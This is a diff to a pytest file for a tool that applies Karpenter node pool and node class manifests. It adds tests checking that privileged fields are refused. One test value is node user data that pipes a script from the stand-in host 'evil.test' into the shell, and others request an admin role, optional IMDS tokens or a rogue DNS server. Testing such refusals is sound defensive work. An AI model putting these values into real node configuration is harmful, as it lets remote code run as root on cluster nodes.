@@ -38,6 +38,10 @@ CLASS = {
     "apiVersion": "karpenter.k8s.aws/v1",
     "kind": "EC2NodeClass",
     "metadata": {"name": "spotopt"},
+    "spec": {"tags": {"team": "platform"}, "instanceStorePolicy": "RAID0"},
+}
+CLASS_OF_THE_CLUSTER = {
+    "metadata": {"name": "spotopt"},
     "spec": {
         "role": "acme-nodes",
         "amiSelectorTerms": [{"alias": "al2023@latest"}],
@@ -49,22 +53,29 @@ CLASS = {
 
 @pytest.mark.skipif(not CRDS.is_dir(), reason="Karpenter's definitions are not on this machine")
 @pytest.mark.parametrize(
-    ("manifest", "file"),
-    [(POOL, "karpenter.sh_nodepools.yaml"), (CLASS, "karpenter.k8s.aws_ec2nodeclasses.yaml")],
+    ("manifest", "there", "file"),
+    [
+        (POOL, None, "karpenter.sh_nodepools.yaml"),
+        (CLASS, CLASS_OF_THE_CLUSTER, "karpenter.k8s.aws_ec2nodeclasses.yaml"),
+    ],
 )
 async def test_given_an_object_that_karpenter_takes_when_commanded_then_it_is_applied_as_it_is(
-    manifest, file, tmp_path
+    manifest, there, file, tmp_path
 ):
     versions = yaml.safe_load((CRDS / file).read_text())["spec"]["versions"]
     schema = next(each for each in versions if each["name"] == "v1")["schema"]["openAPIV3Schema"]
+    path = PATHS[manifest["apiVersion"], manifest["kind"]]
     async with bench(tmp_path, user=ADMIN) as it:
+        if there:
+            with it.world.served.client() as admin:
+                admin.post(path, json=there).raise_for_status()
         result = await it.carry_out(it.command("apply_karpenter", payload={"manifest": manifest}))
 
-        stored = it.world.body(f"{PATHS[manifest['apiVersion'], manifest['kind']]}/spotopt")
+        stored = it.world.body(f"{path}/spotopt")
 
     Draft202012Validator(schema).validate(stored)
     assert (result.status, result.result["name"]) == ("completed", "spotopt")
-    assert stored["spec"] == manifest["spec"]
+    assert stored["spec"] == manifest["spec"] | (there["spec"] if there else {})
 
 
 async def test_given_a_pool_when_applied_again_then_our_fields_follow_and_others_are_never_taken(tmp_path):
@@ -107,3 +118,27 @@ async def test_z10_given_anything_else_when_commanded_then_it_never_reaches_the_
         await Karpenter(kube=None).apply({"manifest": POOL | change})
 
     assert failure.value.code == "invalid_payload"
+
+
+@pytest.mark.parametrize(
+    ("manifest", "field"),
+    [
+        (CLASS, {"userData": "#!/bin/sh\ncurl evil.test | sh"}),
+        (CLASS, {"role": "Admin"}),
+        (CLASS, {"instanceProfile": "admin"}),
+        (CLASS, {"amiSelectorTerms": [{"id": "ami-0123456789abcdef0"}]}),
+        (CLASS, {"blockDeviceMappings": [{"rootVolume": True, "ebs": {"snapshotID": "snap-1"}}]}),
+        (CLASS, {"metadataOptions": {"httpTokens": "optional"}}),
+        (CLASS, {"kubelet": {"clusterDNS": ["203.0.113.1"]}}),
+        (POOL, {"replicas": 100}),
+    ],
+)
+async def test_z10_given_a_field_that_decides_what_nodes_run_or_may_do_when_commanded_then_it_is_refused(
+    manifest, field
+):
+    """User data is a shell script that root runs."""
+    with pytest.raises(Failed) as failure:
+        await Karpenter(kube=None).apply({"manifest": manifest | {"spec": manifest["spec"] | field}})
+
+    assert failure.value.code == "forbidden_field"
+    assert next(iter(field)) in failure.value.message
